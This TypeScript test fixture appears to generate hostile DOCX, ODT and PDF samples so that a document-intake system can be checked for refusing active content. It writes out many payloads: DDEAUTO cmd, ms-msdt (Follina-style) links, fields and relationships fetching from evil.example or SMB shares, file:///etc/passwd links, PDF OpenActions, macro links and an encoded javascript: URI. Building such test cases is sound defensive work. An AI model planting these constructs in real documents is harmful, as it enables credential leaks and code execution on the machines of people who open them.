import { archive, docxParts, odtParts, pdf } from '../worlds/test-files.ts';
import { CANARY, type HostileFile } from './hostile-kit.ts';

/** Documents that run something when they're opened, or load external content, without a macro. */

const REFUSED = ['active_content', 'ambiguous'];
const SHARE = '\\\\evil.example\\share\\a.png';
const ODF = 'urn:oasis:names:tc:opendocument:xmlns';

const fieldMarkup = (instruction: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${CANARY}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const NESTED = fieldMarkup(
  `QUOTE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>`,
);
const NESTED_IN_LINK = NESTED.replace('QUOTE ', 'HYPERLINK ').replace('QUOTE 68 68 69', 'PAGE');

const DOCX_BODIES: Readonly<Record<string, string>> = {
  'a field that fetches a picture from a share': fieldMarkup(`INCLUDEPICTURE "${SHARE}"`),
  'a field that fetches a text': fieldMarkup('INCLUDETEXT "https://evil.example/a.docx"'),
  'a field that asks a database': fieldMarkup('DATABASE \\d "evil.mdb"'),
  'a field whose words come from other fields': NESTED,
  'a link whose words come from another field': NESTED_IN_LINK,
  'a link that starts a tool': fieldMarkup('HYPERLINK "ms-msdt:/id PCWDiagnostic"'),
  'a link to a share': fieldMarkup(`HYPERLINK "${SHARE}"`),
  'a link to a place and to a file': fieldMarkup('HYPERLINK \\l "a" "file:///etc/passwd"'),
  'a link to the web and to a file': fieldMarkup(
    'HYPERLINK "https://ana.example" \\o "a" "file:///etc/passwd"',
  ),
  'a field in one piece that says two things': `<w:p><w:fldSimple w:instr="DDEAUTO cmd /c" x:instr="PAGE"/></w:p>`,
  'a field in one piece that fetches': `<w:p><w:fldSimple w:instr="LINK Excel.Sheet evil.xls"/></w:p>`,
  'words of a field that never begins': '<w:p><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>',
  'a field that never ends': fieldMarkup('IMPORT a').replace('w:fldCharType="end"', 'w:fldCharType="begin"'),
  'a picture from a share in a drawing': `<w:p><w:r><w:pict><v:shape><v:imagedata src="${SHARE}"/></v:shape></w:pict></w:r></w:p>`,
};

const relationshipPart = (type: string, target: string, mode = '') =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`;

const DOCX_RELATIONSHIPS: Readonly<Record<string, string>> = {
  'a link of another scheme': relationshipPart(
    'hyperlink',
    'ms-msdt:/id PCWDiagnostic',
    'TargetMode="External"',
  ),
  'a link to a file': relationshipPart('hyperlink', 'file://evil.example/a', 'TargetMode="External"'),
  'a piece of another format': relationshipPart('aFChunk', 'chunk.xml'),
  'another document in it': relationshipPart('subDocument', 'other.xml'),
  'a picture with two targets': relationshipPart(
    'image',
    'https://evil.example/a.png',
    'TargetMode="External" x:TargetMode="Internal" x:Target="media/a.png"',
  ),
  'a picture that says it is its own': relationshipPart('image', '//evil.example/a.png'),
};

/** Pictures that are loaded through something declared as a link. */
const FETCHED_LINKS: Readonly<Record<string, string>> = {
  'a linked picture': '<a:blip r:link="r1"/>',
  'an embedded picture': '<a:blip r:embed="r1"/>',
  'a picture under two names': '<v:imagedata r:id="r1" x:id="r2"/>',
  'a link that embeds': '<w:hyperlink r:embed="r1"/>',
};

const CONTENT = `xmlns:office="${ODF}:office:1.0" xmlns:text="${ODF}:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:form="${ODF}:form:1.0" xmlns:xforms="http://www.w3.org/2002/xforms" xmlns:draw="${ODF}:drawing:1.0" xmlns:table="${ODF}:table:1.0"`;

const ODT_BODIES: Readonly<Record<string, string>> = {
  'a DDE source': '<text:section><office:dde-source office:dde-application="cmd"/></text:section>',
  'a DDE connection': '<text:dde-connection-decl office:dde-application="soffice" office:dde-topic="/x"/>',
  'a macro field': '<text:p><text:execute-macro text:name="Standard.Module1.Main"/></text:p>',
  'a script by link': '<text:p><text:script xlink:href="https://evil.example/a.js"/></text:p>',
  'an XForm':
    '<office:forms><xforms:model><xforms:submission action="https://evil.example"/></xforms:model></office:forms>',
  'a form that sends itself': '<office:forms><form:form xlink:href="https://evil.example"/></office:forms>',
  'a text from elsewhere':
    '<text:section><text:section-source xlink:href="https://evil.example/a.odt"/></text:section>',
  'a field of a database': '<text:p><text:database-display text:table-name="a"/></text:p>',
  'a spreadsheet from elsewhere':
    '<table:table><table:table-source xlink:href="https://evil.example/a.ods"/></table:table>',
  'an object': '<text:p><draw:object xlink:href="./Object 1"/></text:p>',
  'a link that runs a macro':
    '<text:p><text:a xlink:href="vnd.sun.star.script:a?language=Basic">x</text:a></text:p>',
  'a picture with two addresses':
    '<text:p><draw:image xlink:href="http://evil.example/a.png" x:href="Pictures/a.png"/></text:p>',
  'a link with two addresses':
    '<text:p><text:a xlink:href="file:///etc/passwd" x:href="https://ana.example">x</text:a></text:p>',
  'a link to a share': '<text:p><text:a xlink:href="file://evil.example/a">x</text:a></text:p>',
};

const ODT_PARTS: Readonly<Record<string, string>> = {
  'meta.xml': `<office:document-meta xmlns:office="${ODF}:office:1.0"><office:meta><meta:template xmlns:meta="${ODF}:meta:1.0" xlink:href="//evil.example/a.ott"/></office:meta></office:document-meta>`,
  'Configurations2/accelerator/current.xml':
    '<accel:acceleratorlist xmlns:accel="http://openoffice.org/2001/accel"><accel:item xlink:href="macro:///a.b.c"/></accel:acceleratorlist>',
};

/** A PDF with this in its catalogue. */
const pdfWithCatalog = (entry: string, objects = '') => pdf(CANARY, { catalog: entry, objects });
const link = (uri: string) =>
  pdf(CANARY, {
    objects: `7 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI${uri}>>>>endobj\n`,
  });

const PDFS: Readonly<Record<string, Buffer>> = {
  'a page of the web on opening': pdfWithCatalog('/OpenAction<</S/URI/URI(https://evil.example)>>'),
  'a page of the web on opening, told by another object': pdfWithCatalog(
    '/OpenAction 7 0 R',
    '7 0 obj<</S/URI/URI(https://evil.example)>>endobj\n',
  ),
  'a second step on opening': pdfWithCatalog('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 7 0 R>>'),
  'an action at a page': pdfWithCatalog('/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>'),
  'a thread of another file': pdfWithCatalog('/X<</S/Thread/D 0>>'),
  'a file on a share': pdfWithCatalog(`/X<</F(${SHARE.replaceAll('\\', '\\\\')})>>`),
  'a file on a share, told by another object': pdfWithCatalog(
    '/X<</F 7 0 R>>',
    `7 0 obj(\\\\\\\\evil)endobj\n`,
  ),
  'a file under its other name': pdfWithCatalog('/X<</U#46<feff005c>>>'),
  'a base for its links': pdfWithCatalog('/URI<</Base(file://evil.example)>>'),
  'a link to a share': link('(file://evil.example/a)'),
  'a link to a tool, written in figures': link('<6d732d6d7364743a2f>'),
  'a link to a script, written in signs': link('(j\\141vascript:alert\\(1\\))'),
};

async function docx(parts: Parameters<typeof archive>[0], body?: string): Promise<Buffer> {
  return archive({ ...docxParts(body), ...parts });
}

/** All of them, each of which must be refused. */
export async function actingFiles(): Promise<HostileFile[]> {
  const files: [string, Buffer][] = [];
  for (const [name, body] of Object.entries(DOCX_BODIES))
    files.push([`a DOCX with ${name}`, await docx({}, body)]);
  for (const [name, rels] of Object.entries(DOCX_RELATIONSHIPS))
    files.push([`a DOCX with ${name}`, await docx({ 'word/_rels/document.xml.rels': rels })]);
  const link = relationshipPart('hyperlink', 'https://evil.example/a.png', 'TargetMode="External"');
  for (const [name, body] of Object.entries(FETCHED_LINKS))
    files.push([
      `a DOCX that fetches by ${name}`,
      await docx({ 'word/_rels/document.xml.rels': link }, `<w:p><w:r>${body}</w:r></w:p>`),
    ]);
  files.push([
    'a DOCX that merges mails',
    await docx({
      'word/settings.xml':
        '<w:settings><w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge></w:settings>',
    }),
  ]);
  for (const [name, body] of Object.entries(ODT_BODIES))
    files.push([
      `an ODT with ${name}`,
      await archive({
        ...odtParts(),
        'content.xml': `<office:document-content ${CONTENT}><office:body><office:text>${body}</office:text></office:body></office:document-content>`,
      }),
    ]);
  for (const [name, content] of Object.entries(ODT_PARTS))
    files.push([`an ODT that acts by its ${name}`, await archive({ ...odtParts(), [name]: content })]);
  for (const [name, file] of Object.entries(PDFS)) files.push([`a PDF with ${name}`, file]);
  return files.map(([name, file]) => ({ name, file, expected: REFUSED }));
}
